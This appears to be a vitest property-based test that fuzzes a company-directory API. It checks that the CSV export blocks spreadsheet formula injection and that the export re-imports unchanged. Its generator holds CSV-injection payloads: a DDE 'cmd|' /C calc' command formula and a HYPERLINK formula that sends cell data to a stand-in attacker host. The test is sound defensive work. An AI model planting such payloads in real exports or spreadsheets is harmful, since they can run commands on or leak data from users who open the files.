import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { expect, test, vi } from "vitest";
import { fuzzParameters } from "../fuzz-runs.ts";
import { COMPANY_BODY } from "../fuzzing/endpoints.ts";
import { adminHeaders, json, send } from "../http-client.ts";

const FORMULA = /^[=+\-@\t\r\n＝＋－＠]/;
/** Columns with negative numbers. Their minus sign looks like the start of a formula. */
const NUMBERS = new Set(["latitude", "longitude"]);

const formula = fc
  .tuple(
    fc.constantFrom("=", "+", "-", "@", "＝", "＋", "－", "＠", "'=", "''=", '"=', " =", "\t=", "\r=", "\n="),
    fc.constantFrom("cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?"&A1)', "1+1", ""),
    fc.constantFrom("", '"', ",=1", "\n=1", ";=1"),
  )
  .map((parts) => parts.join(""));

const exported = async (): Promise<Record<string, string>[]> => {
  const { body } = await send({ path: "/api/companies.csv", headers: adminHeaders() });
  return parse(body, { bom: true, columns: true });
};

test("formula injection: no exported cell begins with a formula, and the export can be imported unchanged", async () => {
  await fc.assert(
    fc.asyncProperty(formula, async (text) => {
      const fields = {
        ...COMPANY_BODY,
        name: text,
        location: text,
        county: text,
        description: text,
        // A number has no web address in it.
        phone: text.slice(0, 8),
      };
      const more = {
        services: text,
        operatingHours: text,
        insurance: text,
        coverage: text,
        licenseNumber: text,
      };
      const added = await send({ path: "/api/companies", ...json({ ...fields, ...more }, adminHeaders()) });
      expect(added.status).toBe(201);
      const rows = await exported();
      for (const row of rows)
        for (const [column, cell] of Object.entries(row))
          if (!NUMBERS.has(column))
            expect([column, cell]).not.toEqual([column, expect.stringMatching(FORMULA)]);
    }),
    fuzzParameters(),
  );
  const headers = { ...adminHeaders(), "content-type": "text/csv" };
  // Tries again, because other tests can change companies between the export and the import.
  await vi.waitFor(
    async () => {
      const { body } = await send({ path: "/api/companies.csv", headers: adminHeaders() });
      const report = JSON.parse(
        (await send({ path: "/api/companies/import", method: "POST", headers, body })).body,
      );
      expect(report.counts).toMatchObject({ new: 0, changed: 0, refused: 0 });
    },
    { timeout: 20_000 },
  );
});
